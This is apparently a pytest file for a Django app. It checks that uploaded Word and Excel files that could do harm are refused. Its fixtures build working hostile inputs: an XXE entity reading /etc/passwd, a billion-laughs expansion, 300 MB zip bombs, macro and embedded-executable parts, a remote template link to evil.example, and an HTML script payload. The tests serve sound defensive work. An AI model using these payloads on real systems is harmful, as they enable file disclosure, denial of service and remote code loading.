"""Files made to do harm: they swell, fetch, run or name what is not theirs. Each is refused, with a page."""

import io
import zipfile
from collections.abc import Callable

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from kedjan.access.service import Actor, Refused
from kedjan.files.models import File
from kedjan.reflection import service as reflection
from kedjan_site.demo import cast
from tests.faults.worlds import NOW, World, build
from tests.faults.worlds_files import word_file

pytestmark = pytest.mark.django_db

ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">%s]>'
LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10 if n else b"ha" * 100) for n in range(12))


@pytest.fixture
def world(db: None) -> World:
    return build(cast.EKKOPING, "Kvastören")


@pytest.fixture
def maj(world: World) -> Client:
    client = Client(raise_request_exception=False)
    account = get_user_model().objects.get(id=cast.account_id("Maj Sävdunge"))
    client.force_login(account, backend="django.contrib.auth.backends.ModelBackend")
    return client


def changed(data: bytes, parts: dict[str, bytes], replaced: Callable[[str, bytes], bytes] | None = None) -> bytes:
    """Return an Office file with parts added, and others changed by `replaced`."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            if name not in parts:
                content = source.read(name)
                target.writestr(name, replaced(name, content) if replaced else content)
        for name, content in parts.items():
            target.writestr(name, content)
    return out.getvalue()


def with_entities(within: str, extra: bytes = b"") -> Callable[[str, bytes], bytes]:
    """Return how a part gets a list of entities, one of them a file of this machine."""

    def replaced(name: str, content: bytes) -> bytes:
        if name != within:
            return content
        body = content.partition(b"?>")[2]
        return ENTITY % extra + body.replace(b"</w:t>", b"&a;</w:t>").replace(b"</t>", b"&a;</t>")

    return replaced


def workbook() -> bytes:
    import openpyxl

    out, book = io.BytesIO(), openpyxl.Workbook()
    sheet = book.active
    sheet.append(["assignment", "area", "respondent", "emotion", "tags", "text"])
    sheet.append(["01", "Förskola", "p1", "1", "", "hej"])
    book.save(out)
    return out.getvalue()


def bomb(data: bytes, name: str) -> bytes:
    """Return the file with a part that swells to 300 MB."""
    return changed(data, {name: b"\0" * 300_000_000})


TEMPLATES = {
    "a bomb": lambda: bomb(word_file(), "word/media/image1.png"),
    "macros": lambda: changed(word_file(), {"word/vbaProject.bin": b"x"}),
    "an embedded program": lambda: changed(word_file(), {"word/embeddings/oleObject1.bin": b"MZ"}),
    "a template fetched from elsewhere": lambda: changed(
        word_file(),
        {
            "word/_rels/settings.xml.rels": (
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
                b'Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
            )
        },
    ),
    "no document": lambda: b"PK\x03\x04 inget",
    "a page": lambda: b"<html><script>alert(1)</script></html>",
    "entities without end": lambda: changed(word_file(), {}, with_entities("word/document.xml", LAUGHS)),
    "entities in the styles": lambda: changed(word_file(), {}, with_entities("word/styles.xml", LAUGHS)),
}


@pytest.mark.parametrize("kind", TEMPLATES)
def test_a_template_that_could_do_harm_is_refused_in_the_form(maj: Client, kind: str) -> None:
    before = File.objects.count()
    answer = maj.post("/rapporter/mallar/", {"file": SimpleUploadedFile("mall.docx", TEMPLATES[kind]())})
    assert answer.status_code == 200
    assert 'aria-invalid="true"' in answer.content.decode()
    assert File.objects.count() == before


BOOKS = {
    "a bomb": lambda: bomb(workbook(), "xl/media/image1.png"),
    "a bomb of a sheet": lambda: bomb(workbook(), "xl/worksheets/sheet2.xml"),
    "a Word document": word_file,
    "a page": lambda: b"<!doctype html><table><tr><td>assignment;area</td></tr></table>",
    "nothing": lambda: b"",
    "a PDF": lambda: b"%PDF-1.7 assignment;area",
    "cut off": lambda: workbook()[:-200],
}


@pytest.mark.parametrize("kind", BOOKS)
def test_a_file_of_reflections_that_could_do_harm_is_refused_in_the_form(maj: Client, world: World, kind: str) -> None:
    path = f"/omgangar/{world.things['round']}/las-in/"
    given = {"file": SimpleUploadedFile("svar.xlsx", BOOKS[kind]()), "key": "0ce3e2c4-0b0a-4a56-a3a5-d2d2a5a0c001"}
    answer = maj.post(path, given)
    assert answer.status_code == 200
    assert 'aria-invalid="true"' in answer.content.decode()


def proposed(by: Actor, world: World, data: bytes) -> str:
    """Return all texts of a proposed file, or the reason for which it was refused."""
    from uuid import UUID, uuid4

    try:
        found = reflection.propose(
            by=by, now=NOW, round=UUID(world.things["round"]), data=data, name="svar.xlsx", key=uuid4()
        )
    except Refused as refusal:
        return str(refusal)
    return " ".join(row.text for row in found.rows.items)


@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/workbook.xml"])
def test_no_file_of_this_machine_is_read_by_a_name_in_a_workbook(world: World, part: str) -> None:
    told = proposed(cast.actor("Maj Sävdunge"), world, changed(workbook(), {}, with_entities(part, LAUGHS)))
    assert "root:" not in told
    assert len(told) < 10_000


def test_a_text_with_a_character_that_no_database_keeps_is_read_without_it_or_refused(world: World) -> None:
    from uuid import UUID, uuid4

    data = "assignment;area;respondent;emotion;tags;text\n01;Förskola;p77;1;;hej\x00då\n".encode()
    by = cast.actor("Maj Sävdunge")
    try:
        found = reflection.propose(
            by=by, now=NOW, round=UUID(world.things["round"]), data=data, name="a.csv", key=uuid4()
        )
    except Refused:
        return
    if not found.batch.refused:
        reflection.accept(by=by, now=NOW, batch=found.batch.id, seen=found.batch.revision)
    assert "\x00" not in " ".join(row.text for row in found.rows.items)
